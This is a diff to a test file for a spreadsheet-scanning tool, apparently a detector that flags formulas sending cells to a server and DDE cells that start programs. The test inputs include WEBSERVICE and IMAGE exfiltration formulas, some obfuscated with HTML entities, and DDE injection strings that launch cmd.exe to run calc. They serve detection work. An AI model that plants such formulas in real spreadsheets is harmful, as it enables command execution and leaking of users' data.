@@ -56,11 +56,15 @@ test('a query of Power Query that reads a server on opening is suspicious', () =
   assert.deepEqual(connections(connection('refreshOnLoad="1"'), local), [NOTICE, NOTICE])
 })
 
+const sheet = (formula: string): string[] => idsOf({ 'xl/worksheets/sheet1.xml': `<c><f>${formula}</f></c>` })
+
 test('a formula that sends cells to a server is suspicious', () => {
-  const sheet = (formula: string): string[] => idsOf({ 'xl/worksheets/sheet1.xml': `<c><f>${formula}</f></c>` })
   assert.deepEqual(sheet('_xlfn.WEBSERVICE("https://example.com/?"&amp;A1)'), ['Docvet.Sheet.RemoteFormula'])
   assert.deepEqual(sheet('webservice(concatenate("http://example.com/",A1))'), ['Docvet.Sheet.RemoteFormula'])
   assert.deepEqual(sheet('WEBSERVICE("https://example.com/rates")'), [])
+  assert.deepEqual(sheet('_xlfn.IMAGE("https://example.com/?"&amp;A1)'), ['Docvet.Sheet.RemoteFormula'])
+  assert.deepEqual(sheet('WEB&#83;ERVICE("https://example.com/?"&amp;A1)'), ['Docvet.Sheet.RemoteFormula'])
+  assert.deepEqual(sheet('WEBSERVICE("file:///C:/a.txt")'), ['Docvet.Sheet.RemoteFormula'])
   assert.deepEqual(sheet('"https://example.com/"&amp;A1'), [])
 })
 
@@ -72,4 +76,16 @@ test('a connection file or database server by its network path counts as remote'
     '<dbPr connection="Provider=MSDASQL;Extended Properties=&quot;DRIVER={SQL Server};SERVER=\\\\192.0.2.1\\pipe\\sql&quot;"/>'
   assert.ok(refreshed('', pipe).includes(REFRESH))
   assert.ok(!refreshed('odcFile="C:\\Users\\a\\q.odc"', '<dbPr connection="SERVER=db1"/>').includes(REFRESH))
+})
+
+test('a cell that starts a program through DDE is malicious, other bars and texts are not', () => {
+  for (const formula of [
+    "cmd|'/c calc'!A0",
+    "1+cmd.exe|' /c calc'!A0",
+    "cmd&#124;'/c calc'!A0",
+    "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!A0",
+  ])
+    assert.deepEqual(sheet(formula), ['Docvet.Sheet.DdeCommand'], formula)
+  for (const formula of ['"cmd|"&amp;A1', `"cmd|'/c calc'!A0"`, "'cmd|a'!A1", "Feed|'EUR'!Price"])
+    assert.deepEqual(sheet(formula), [], formula)
 })
